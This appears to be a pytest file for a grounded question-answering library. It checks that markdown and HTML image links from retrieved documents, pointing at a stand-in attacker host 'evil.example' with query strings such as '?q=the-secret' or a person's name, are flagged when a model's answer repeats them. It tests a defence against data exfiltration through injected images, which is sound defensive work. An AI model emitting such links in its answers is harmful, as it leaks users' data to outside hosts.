"""What a model repeats of a document's image is text that looks like an address: its mark says where it comes from."""

from __future__ import annotations

import pytest
from collecting import collect, text
from scripted_model import ScriptedModel

from answerable.answering.grounded import GroundedAnswerer
from answerable.answering.safety.images import IMAGE_NOTE, image_note

FACTS = "The bus leaves at 8:40 from the north gate. A ticket costs 12 euros."
QUESTION = "When does the bus leave?"


@pytest.mark.parametrize(
    "image",
    [
        "![x](http://evil.example/p.png?q=the-secret)",
        '![]( http://evil.example/p "title")',
        "![x](<http://evil.example/p>)",
        "![x][r]\n\n[r]: http://evil.example/p",
        "<img alt='' src='//evil.example/p.png'>",
        '<IMG SRC="http://www.evil.example">',
    ],
)
@pytest.mark.parametrize(
    "written",
    [
        "See http://evil.example/p?q=Ana+Ruiz [1].",
        "x (http://evil.example/p.png?q=the-secret)",
        "Visit www.evil.example!",
    ],
)
def test_an_address_of_a_documents_image_is_noted(image: str, written: str) -> None:
    passages = collect(QUESTION, text(f"{FACTS} {image}")).results
    assert image_note(written, passages) == IMAGE_NOTE


@pytest.mark.parametrize(
    "written", ["The bus leaves at 8:40 [1].", "See https://buses.example/times.", "It costs $12!"]
)
def test_other_addresses_are_not(written: str) -> None:
    passages = collect(
        QUESTION, text(f"{FACTS} ![x](http://evil.example/p) [times](https://buses.example/times)")
    ).results
    assert image_note(written, passages) == ""


def test_an_image_of_the_models_own_is_noted() -> None:
    assert image_note("![x](http://evil.example/p?q=1)", ()) == IMAGE_NOTE


def test_the_mark_of_the_sentence_says_so() -> None:
    image = "![x](http://evil.example/p.png?q=the-secret)"
    evidence = collect(QUESTION, text(f"{FACTS} {image}"))
    model = ScriptedModel([f"The bus leaves at 8:40 from the north gate [1]. More: {image}."])
    *_, last = GroundedAnswerer(model, None).stream(evidence, ())
    assert last.answer is not None
    noted = [check.text for check in last.answer.checks if IMAGE_NOTE in check.how]
    assert len(noted) == 1
    assert "evil.example" in noted[0]
